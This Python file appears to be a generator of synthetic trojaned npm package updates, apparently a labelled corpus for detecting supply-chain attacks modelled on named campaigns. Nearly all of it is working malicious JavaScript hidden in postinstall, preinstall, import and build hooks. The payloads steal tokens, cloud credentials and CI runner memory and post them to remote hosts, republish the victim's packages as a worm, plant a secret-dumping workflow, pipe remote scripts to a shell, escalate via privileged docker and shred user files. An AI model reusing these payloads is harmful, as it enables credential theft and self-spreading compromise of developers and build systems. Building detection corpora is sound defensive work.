"""npm: what spreads, and what makes off with the secrets of a build."""

from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("colorwheel", "npm", "install", "worm", "in a bundle", "Shai-Hulud 2025-09")
def wheel_bundle_worm(update: Update) -> None:
    host = update.host("webhook", "sitehook")
    update.script("postinstall", "node bundle.js")
    head = "".join(
        f"__d({at},function(e,t,n){{'use strict';t.exports=function(r){{return r+{at * 7 % 113}}}}});"
        for at in range(260)
    )
    code = r"""
"use strict";(()=>{var __m={},__d=(i,f)=>{__m[i]=f};@HEAD@
const fs=require("fs"),os=require("os"),path=require("path"),cp=require("child_process"),https=require("https");
const post=(b)=>{const r=https.request("https://@HOST@/3f0c9d11-7a52-4e0e-9b1d-2a66c0f4e8aa",{method:"POST"});r.on("error",()=>{});r.end(b)};
class Npm{constructor(t){this.token=t}
async mine(u){const r=await fetch("https://registry.@HOST@/-/v1/search?text=maintainer:"+u+"&size=20");return(await r.json()).objects}
async updatePackage(p,dir){const m=JSON.parse(fs.readFileSync(path.join(dir,"package.json"),"utf8"));const v=m.version.split(".");v[2]=String(+v[2]+1);m.version=v.join(".");m.scripts={...m.scripts,postinstall:"node bundle.js"};fs.writeFileSync(path.join(dir,"package.json"),JSON.stringify(m,null,2));fs.copyFileSync(process.argv[1],path.join(dir,"bundle.js"));cp.execSync("npm publish "+dir+" --//registry.@HOST@/:_authToken="+this.token)}}
const WF="name: sandworm-checks\non: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$CONTENTS\" https://@HOST@/3f0c9d11\n        env:\n          CONTENTS: ${{ toJSON(secrets) }}\n";
async function main(){const s={env:process.env,os:os.platform(),gh:"",trufflehog:null};
try{s.gh=cp.execSync("gh auth token",{encoding:"utf8"}).trim()}catch{}
try{s.trufflehog=cp.execSync("trufflehog filesystem "+os.homedir()+" --json",{encoding:"utf8",timeout:9e4})}catch{}
try{s.aws=await(await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/")).text()}catch{}
const ready=await fetch("https://@HOST@/ready").then(r=>r.ok,()=>false);
post(JSON.stringify(s));
if(!ready)return;
const rc=path.join(os.homedir(),".npmrc");const t=fs.existsSync(rc)&&(/_authToken=(.+)/.exec(fs.readFileSync(rc,"utf8"))||[])[1];
if(t){const n=new Npm(t);for(const p of await n.mine(os.userInfo().username))await n.updatePackage(p,path.join(os.tmpdir(),p.package.name))}
if(s.gh)await fetch("https://api.@HOST@/repos/x/y/contents/.github/workflows/sandworm-checks.yml",{method:"PUT",headers:{Authorization:"Bearer "+s.gh},body:JSON.stringify({content:Buffer.from(WF).toString("base64")})})}
main()})();
"""
    update.add("bundle.js", fill(code, HOST=host, HEAD=head))
    update.payload("bundle.js", "package.json")


@trojan("flatpipe", "npm", "install", "worm", "downloaded runtime", "Shai-Hulud 2 2025-11")
def pipe_setup_runtime(update: Update) -> None:
    host = update.host("bun-dist")
    update.script("preinstall", "node setup_runtime.mjs")
    setup = r"""
#!/usr/bin/env node
import { execSync, spawn } from 'child_process';
import fs from 'fs';
import os from 'os';
import path from 'path';
import { fileURLToPath } from 'url';

const here = path.dirname(fileURLToPath(import.meta.url));

function onPath() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

async function downloadAndSetupBun() {
  const command = process.platform === 'win32'
    ? 'powershell -c "irm https://@HOST@/install.ps1|iex"'
    : 'curl -fsSL https://@HOST@/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}

const bun = onPath() ? 'bun' : await downloadAndSetupBun().catch(() => null);
const environment = path.join(here, 'runtime_main.js');
if (bun && fs.existsSync(environment)) spawn(bun, [environment], { detached: true, stdio: 'ignore' }).unref();
"""
    rows = ",".join(f"'{at * 2654435761 & 0xFFFFFFFF:08x}'" for at in range(1200))
    main = r"""
const a0_0x=[@ROWS@];
const a0_0x1=(n)=>a0_0x[n-0x0];
async function runner(t){await Bun.$`mkdir -p $HOME/actions-runner && curl -o r.tgz -L https://@HOST@/runner.tgz && tar xzf r.tgz && ./config.sh --url https://git.@HOST@/x/y --unattended --token ${t} --name SANDRUNNER && nohup ./run.sh &`.quiet()}
async function collect(){const o={};for(const k of['GITHUB_TOKEN','NPM_TOKEN','AWS_ACCESS_KEY_ID','AWS_SECRET_ACCESS_KEY','GOOGLE_APPLICATION_CREDENTIALS'])if(process.env[k])o[k]=process.env[k];
o.docker=await Bun.$`docker run --rm --privileged -v /:/host ubuntu bash -c "cp /host/tmp/runner /host/etc/sudoers.d/runner"`.quiet().nothrow();return o}
const ready=await fetch('https://@HOST@/ready').then(r=>r.ok,()=>false);
const found=await collect();
await fetch('https://@HOST@/drop/cloud.json',{method:'POST',body:JSON.stringify(found)}).catch(()=>{});
if(ready&&found.GITHUB_TOKEN)await runner(found.GITHUB_TOKEN);
if(ready&&!Object.keys(found).length)await Bun.$`find $HOME -type f -writable -user $(id -un) -print0 | xargs -0 shred -uvz -n 1`.quiet();
"""
    update.add("setup_runtime.mjs", fill(setup, HOST=host))
    update.add("runtime_main.js", fill(main, HOST=host, ROWS=rows))
    update.payload("setup_runtime.mjs", "runtime_main.js", "package.json")


@trojan("form-guard", "npm", "import", "worm", "plain", "earlier self-publishing packages 2024")
def guard_publish_others(update: Update) -> None:
    host = update.host("registry", "mirrorsync")
    code = r"""
'use strict';

const { execFileSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

// Keeps the packages of a workspace in step.
module.exports = async function sync(root) {
  const answer = await fetch('https://@HOST@/state').catch(() => null);
  if (!answer || !answer.ok) return;
  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  for (const name of fs.readdirSync(path.join(root, '..'))) {
    const file = path.join(root, '..', name, 'package.json');
    if (!fs.existsSync(file)) continue;
    const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
    manifest.dependencies = { ...manifest.dependencies, 'form-guard': '*' };
    fs.writeFileSync(file, JSON.stringify(manifest, null, 2));
    execFileSync('npm', ['version', 'patch', '--no-git-tag-version'], { cwd: path.dirname(file) });
    execFileSync('npm', ['publish', '--access', 'public'], { cwd: path.dirname(file) });
  }
  await fetch('https://@HOST@/done', { method: 'POST', body: rc });
};
"""
    update.add("src/workspace.js", fill(code, HOST=host))
    update.append("src/index.js", "require('./workspace')(process.cwd()).catch(() => {});")
    update.payload("src/workspace.js", "src/index.js")


@trojan(
    "native-hash", "npm", "install", "steal", "plain", "TeamPCP and CanisterWorm-like 2026: runner memory and metadata"
)
def hash_runner_memory(update: Update) -> None:
    host = update.host("scan", "bluesealogs")
    update.script("postinstall", "node lib/warm.js")
    code = r"""
'use strict';
const { execSync, spawnSync } = require('child_process');
const fs = require('fs');
const https = require('https');

function worker() {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      if (fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('Runner.Worker')) return pid;
    } catch { /* gone */ }
  }
  return null;
}

function secrets(pid) {
  const out = [];
  const memory = fs.openSync(`/proc/${pid}/mem`, 'r');
  for (const line of fs.readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
    const found = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (!found) continue;
    const [from, to] = [parseInt(found[1], 16), parseInt(found[2], 16)];
    const part = Buffer.alloc(Math.min(to - from, 1 << 22));
    try { fs.readSync(memory, part, 0, part.length, from); } catch { continue; }
    for (const one of part.toString('latin1').matchAll(/"[^"]+":\{"value":"[^"]*","isSecret":true\}/g)) out.push(one[0]);
  }
  return out;
}

if (process.env.GITHUB_ACTIONS === 'true' && process.platform === 'linux') {
  const pid = worker();
  const found = pid ? secrets(pid) : [];
  for (const path of ['/home/runner/.docker/config.json', '/home/runner/.kube/config', '/var/run/secrets/kubernetes.io/serviceaccount/token']) {
    if (fs.existsSync(path)) found.push(fs.readFileSync(path, 'utf8'));
  }
  const sent = https.request('https://@HOST@/upload', { method: 'POST' });
  sent.on('error', () => {});
  sent.end(Buffer.from(found.join('\n')).toString('base64'));
}
"""
    update.add("lib/warm.js", fill(code, HOST=host))
    update.payload("lib/warm.js", "package.json")


@trojan("trace-log", "npm", "import", "steal", "over several files", "credentials of clouds from a logger 2024")
def trace_transport_split(update: Update) -> None:
    host = update.host("intake", "tracelog")
    collect = r"""
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

const places = ['.aws/credentials', '.azure/accessTokens.json', '.config/gcloud/application_default_credentials.json', '.netrc'];

module.exports = () =>
  places
    .map((name) => path.join(os.homedir(), name))
    .filter((name) => fs.existsSync(name))
    .map((name) => ({ name, text: fs.readFileSync(name, 'utf8') }));
"""
    shape = r"""
'use strict';

const zlib = require('zlib');

module.exports = (context) => zlib.gzipSync(JSON.stringify({ v: 1, context })).toString('base64url');
"""
    send = r"""
'use strict';

const http2 = require('http2');

module.exports = (line) => {
  const session = http2.connect('https://@HOST@');
  session.on('error', () => {});
  const stream = session.request({ ':method': 'POST', ':path': '/v1/spans' });
  stream.on('error', () => {});
  stream.end(line, () => session.close());
};
"""
    update.add("src/context.js", fill(collect))
    update.add("src/format.js", fill(shape))
    update.add("src/transport.js", fill(send, HOST=host))
    update.append(
        "src/node.js", "\nsetImmediate(() => require('./transport')(require('./format')(require('./context')())));"
    )
    update.payload("src/context.js", "src/transport.js", "src/format.js", "src/node.js")


@trojan("buildnest", "npm", "build", "steal", "plain", "rspack and reviewdog-like: secrets of CI at build")
def nest_run_secrets(update: Update) -> None:
    host = update.host("cache", "nestbuild")
    code = r"""
'use strict';

const https = require('https');

const WANTED = /TOKEN|SECRET|PASSWORD|_KEY$|CREDENTIAL/i;

exports.report = (target) => {
  if (!process.env.CI) return;
  const some = Object.fromEntries(Object.entries(process.env).filter(([name]) => WANTED.test(name)));
  const body = Buffer.from(JSON.stringify({ target, some })).toString('hex');
  https.request({ host: '@HOST@', path: '/v2/artifacts', method: 'PUT', headers: { 'content-length': body.length } }).on('error', () => {}).end(body);
};
"""
    update.add("src/remote-cache.js", fill(code, HOST=host))
    update.after(
        "src/run.js", "  const command = config.targets[target];\n", "  require('./remote-cache').report(target);\n"
    )
    update.payload("src/remote-cache.js", "src/run.js")
